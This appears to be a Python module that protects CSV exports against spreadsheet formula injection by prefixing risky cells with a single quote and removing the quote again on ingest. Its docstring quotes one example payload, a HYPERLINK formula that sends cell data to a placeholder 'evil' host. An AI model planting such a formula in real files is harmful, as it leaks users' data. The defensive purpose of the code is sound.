"""Make CSV exports safe to open in a spreadsheet, and undo that on the way back in.

A cell starting with = + - @ (or a tab or carriage return) is run as a formula
by Excel, LibreOffice and Google Sheets: a quarantined value such as
`=HYPERLINK("http://evil/?"&A1, "fix me")` would leak the sheet or run a
command on the machine of whoever opens the fix file. OWASP's CSV injection
advice is to prefix such a cell with a single quote, which spreadsheets show as
text.

Our rule (docs/feeds.md#fixing-quarantined-rows):

- a text cell that starts with one of those characters, possibly after
  single quotes, gets one more single quote in front;
- except a plain number (`-2`, `+1.5`, `-3e2`): a spreadsheet reads it as that
  number, never as a formula, and a return's quantity must stay -2 when the
  fixed file comes back;
- the ingest removes one such quote (`UNESCAPE_PATTERN`), so an escaped value
  loads as it was quarantined and a fixed row keeps its key (a SKU "-ABC"
  exported as "'-ABC" is "-ABC" again).
"""
from __future__ import annotations

import re

import pandas as pd

FORMULA_STARTS = "=+-@\t\r"
ESCAPE = "'"
_NEEDS_ESCAPE = re.compile(r"^'*[=+\-@\t\r]")
_PLAIN_NUMBER = re.compile(r"^[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?$")
# RE2 (DuckDB) and Python alike: one leading quote before optional quotes and a formula start
UNESCAPE_PATTERN = r"^'('*[=+\-@\t\r])"


def escape_cell(value: object) -> object:
    """`value` with a leading single quote when a spreadsheet would run it as a formula; anything else as it is."""
    if not isinstance(value, str) or not _NEEDS_ESCAPE.match(value) or _PLAIN_NUMBER.match(value):
        return value
    return ESCAPE + value


def unescape_cell(value: str) -> str:
    """What `escape_cell` was given (the ingest does the same in SQL with UNESCAPE_PATTERN)."""
    return re.sub(UNESCAPE_PATTERN, r"\1", value)


def spreadsheet_safe(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` whose text cells and column names are escaped; numbers and dates are left alone."""
    safe = frame.rename(columns=lambda c: escape_cell(c) if isinstance(c, str) else c)
    for column in safe.columns:
        if safe[column].dtype == object or pd.api.types.is_string_dtype(safe[column].dtype):
            safe[column] = safe[column].map(escape_cell)
    return safe
